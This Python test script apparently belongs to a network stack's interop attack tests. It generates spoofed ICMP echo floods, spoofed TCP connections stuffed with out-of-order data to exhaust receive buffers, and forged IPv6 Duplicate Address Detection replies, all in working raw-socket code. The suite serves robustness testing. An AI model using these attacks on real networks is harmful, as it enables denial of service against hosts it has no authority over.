#!/usr/bin/env python3
"""tests/interop/attack.py — hostile traffic for the attack tests, sent from
inside the test's network namespace with raw sockets (root).

  attack.py echo-flood --dst A --src-net 192.0.2.0/24 --src-from 100 --src-to 250
                       --pps 20000 --seconds S
      ICMP echo requests to A from spoofed sources in the on-link subnet
      (host numbers src-from..src-to, round robin) that nobody answers ARP
      for: every reply the target makes waits for a neighbour that never
      resolves. Prints how many were sent and the rate reached.

  attack.py ooo-stuff --dst A --port P --src 198.51.100.7 --ifname DEV
                      --conns N [--wscale 7] [--seconds S]
      Opens N TCP connections to A:P from the spoofed, off-link source (the
      target's replies go to its gateway, the kernel, which drops them: no
      RST comes back), reading the SYN-ACKs from an AF_PACKET socket on DEV;
      then fills every connection's receive window with out-of-order data,
      never the first byte, so nothing can ever be delivered. Prints the
      connections established and the bytes of out-of-order data sent.

  attack.py dad-defend --ifname DEV --prefix 2001:db8:1::/64 --count N
                       [--seconds S]
      Answers the first N Duplicate Address Detection probes (Neighbor
      Solicitations from ::, RFC 4862 §5.4.2) for targets in the prefix
      seen on DEV with a Neighbor Advertisement claiming the target, as a
      node already holding it would (RFC 4862 §5.4.4). Prints each target
      answered, then the probes seen.

Addresses are the test's own (documentation ranges, inside its namespace).
Every run is bounded in time (--seconds).
"""
import argparse
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(data: bytes) -> int:
    """RFC 1071 Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_header(src: bytes, dst: bytes, proto: int, payload_len: int, ident: int) -> bytes:
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident & 0xFFFF, 0x4000, 64,
                      proto, 0, src, dst)
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]


def raw_socket() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def echo_flood(a) -> None:
    net = ipaddress.ip_network(a.src_net)
    sources = [socket.inet_aton(str(net.network_address + h)) for h in range(a.src_from, a.src_to + 1)]
    dst = socket.inet_aton(a.dst)
    s = raw_socket()
    payload = bytes(range(56))
    frames = []
    for i, src in enumerate(sources):
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x4e53, i) + payload
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        frames.append(ip_header(src, dst, socket.IPPROTO_ICMP, len(icmp), i) + icmp)
    sent = 0
    batch = max(1, a.pps // 1000)  # one batch a millisecond
    t0 = time.monotonic()
    end = t0 + a.seconds
    k = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * a.pps)
        if sent >= due:
            time.sleep(min(0.001, end - now))
            continue
        for _ in range(min(batch, due - sent)):
            try:
                s.sendto(frames[k], (a.dst, 0))
                sent += 1
            except (BlockingIOError, OSError):
                time.sleep(0.0005)  # the kernel's queue is full: a moment
                break
            k = (k + 1) % len(frames)
    took = time.monotonic() - t0
    print("echo-flood: sent %d echo requests from %d spoofed sources in %.2f s (%.0f/s)"
          % (sent, len(sources), took, sent / took if took > 0 else 0), flush=True)


def tcp_segment(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
                win: int, opts: bytes = b"", data: bytes = b"") -> bytes:
    off = (20 + len(opts)) // 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, off << 4,
                      flags, win, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(hdr) + len(data))
    c = csum(pseudo + hdr + data)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:] + data


SYN, RST, ACK, PSH = 0x02, 0x04, 0x10, 0x08


def parse_synack(frame: bytes, want_src: bytes, want_dst: bytes, dport: int):
    """(our port, server ISN, window, server wscale) of a SYN-ACK in an
    Ethernet frame, or None."""
    if len(frame) < 14 + 20 + 20 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0xF) * 4
    if ip[9] != socket.IPPROTO_TCP or ip[12:16] != want_src or ip[16:20] != want_dst:
        return None
    tcp = ip[ihl:]
    sport, dp, seq, _ack, off, flags, win = struct.unpack("!HHIIBBH", tcp[:16])
    if sport != dport or (flags & (SYN | ACK)) != (SYN | ACK):
        return None
    ws = 0
    opts = tcp[20:(off >> 4) * 4]
    i = 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts):
            break
        ln = opts[i + 1]
        if kind == 3 and ln == 3:
            ws = opts[i + 2]
        i += max(ln, 2)
    return dp, seq, win, ws


def ooo_stuff(a) -> None:
    src = socket.inet_aton(a.src)
    dst = socket.inet_aton(a.dst)
    s = raw_socket()
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sniff.bind((a.ifname, 0))
    sniff.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
    sniff.setblocking(False)
    deadline = time.monotonic() + a.seconds
    rng = random.Random(7)
    # MSS 1460, window scale, SACK permitted: the window the target offers
    # after the handshake is its whole receive buffer.
    syn_opts = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BBB", 3, 3, a.wscale) + \
        b"\x01" + b"\x04\x02" + b"\x01\x01"
    ports = list(range(20000, 20000 + a.conns))
    iss = {p: rng.getrandbits(32) for p in ports}
    conns = {}  # port -> (server isn + 1, window bytes)
    ident = 0

    def send(seg: bytes) -> None:
        nonlocal ident
        ident += 1
        pkt = ip_header(src, dst, socket.IPPROTO_TCP, len(seg), ident) + seg
        while True:
            try:
                s.sendto(pkt, (a.dst, 0))
                return
            except (BlockingIOError, OSError):
                time.sleep(0.0005)

    def drain() -> None:
        while True:
            try:
                f = sniff.recv(65535)
            except BlockingIOError:
                return
            r = parse_synack(f, dst, src, a.port)
            if r and r[0] in iss and r[0] not in conns:
                port, sisn, win, ws = r
                conns[port] = ((sisn + 1) & 0xFFFFFFFF, ws)

    # Handshakes, a batch of SYNs at a time; SYNs not answered are sent again.
    pending = list(ports)
    while pending and time.monotonic() < deadline:
        for p in pending[:256]:
            send(tcp_segment(src, dst, p, a.port, iss[p], 0, SYN, 65535, syn_opts))
        t = time.monotonic() + 0.05
        while time.monotonic() < t:
            select.select([sniff], [], [], 0.01)
            drain()
        pending = [p for p in pending if p not in conns]
    # Complete them: ACK the SYN-ACK (the window field is scaled from here on).
    for p, (rcv_nxt, _ws) in conns.items():
        send(tcp_segment(src, dst, p, a.port, iss[p] + 1, rcv_nxt, ACK, 65535 >> 0))
    time.sleep(0.2)
    # Out-of-order data: every byte of the window but the first, in
    # MSS-sized segments.
    payload = bytes(rng.getrandbits(8) for _ in range(1460))
    sent_bytes = 0
    window = a.window
    for p, (rcv_nxt, _ws) in conns.items():
        if time.monotonic() >= deadline:
            break
        seq0 = iss[p] + 1
        off = 1
        while off + 1 <= window and time.monotonic() < deadline:
            n = min(1460, window - off)
            send(tcp_segment(src, dst, p, a.port, seq0 + off, rcv_nxt, ACK | PSH, 65535,
                             data=payload[:n]))
            off += n
            sent_bytes += n
        drain()
    print("ooo-stuff: %d of %d connections established, %d bytes of out-of-order data sent"
          % (len(conns), a.conns, sent_bytes), flush=True)


ETH_P_IPV6 = 0x86DD


def icmp6_csum(src: bytes, dst: bytes, msg: bytes) -> int:
    """RFC 8200 §8.1 pseudo-header checksum for ICMPv6 (next header 58)."""
    pseudo = src + dst + struct.pack("!IxxxB", len(msg), 58)
    return csum(pseudo + msg)


def dad_defend(a) -> None:
    net = ipaddress.IPv6Network(a.prefix)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
    s.bind((a.ifname, 0))
    mac = s.getsockname()[4]
    answered = seen = 0
    end = time.monotonic() + a.seconds
    while answered < a.count and time.monotonic() < end:
        r, _, _ = select.select([s], [], [], 0.2)
        if not r:
            continue
        f = s.recv(2048)
        # Ethernet, IPv6 (next header ICMPv6, source ::), NS (type 135).
        if len(f) < 14 + 40 + 24 or f[12:14] != b"\x86\xdd" or f[20] != 58:
            continue
        src, icmp = f[22:38], f[54:]
        if src != bytes(16) or icmp[0] != 135:
            continue
        target = icmp[8:24]
        if ipaddress.IPv6Address(target) not in net:
            continue
        seen += 1
        # NA to all-nodes: Override set, Solicited clear (RFC 4861 §7.2.4
        # for a DAD probe), our MAC as target link-layer address.
        dst = bytes.fromhex("ff020000000000000000000000000001")
        na_src = bytes.fromhex("fe80000000000000") + mac[:3] + b"\xff\xfe" + mac[3:6]
        msg = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target + bytes([2, 1]) + mac[:6]
        msg = msg[:2] + struct.pack("!H", icmp6_csum(na_src, dst, msg)) + msg[4:]
        ip = struct.pack("!IHBB", 0x60000000, len(msg), 58, 255) + na_src + dst
        eth = bytes.fromhex("333300000001") + mac[:6] + b"\x86\xdd"
        s.send(eth + ip + msg)
        answered += 1
        print("answered", ipaddress.IPv6Address(target), flush=True)
    print("probes seen", seen, flush=True)


def main() -> int:
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("echo-flood")
    f.add_argument("--dst", required=True)
    f.add_argument("--src-net", required=True)
    f.add_argument("--src-from", type=int, default=100)
    f.add_argument("--src-to", type=int, default=250)
    f.add_argument("--pps", type=int, default=20000)
    f.add_argument("--seconds", type=float, default=5)
    o = sub.add_parser("ooo-stuff")
    o.add_argument("--dst", required=True)
    o.add_argument("--port", type=int, default=9)
    o.add_argument("--src", required=True)
    o.add_argument("--ifname", required=True)
    o.add_argument("--conns", type=int, default=1000)
    o.add_argument("--wscale", type=int, default=7)
    o.add_argument("--window", type=int, default=131072,
                   help="bytes of window to fill (the target's default receive buffer)")
    o.add_argument("--seconds", type=float, default=60)
    d = sub.add_parser("dad-defend")
    d.add_argument("--ifname", required=True)
    d.add_argument("--prefix", required=True)
    d.add_argument("--count", type=int, default=1)
    d.add_argument("--seconds", type=float, default=60)
    a = ap.parse_args()
    if os.geteuid() != 0:
        print("attack.py: needs root (raw sockets)", file=sys.stderr)
        return 77
    if a.cmd == "echo-flood":
        echo_flood(a)
    elif a.cmd == "dad-defend":
        dad_defend(a)
    else:
        ooo_stuff(a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
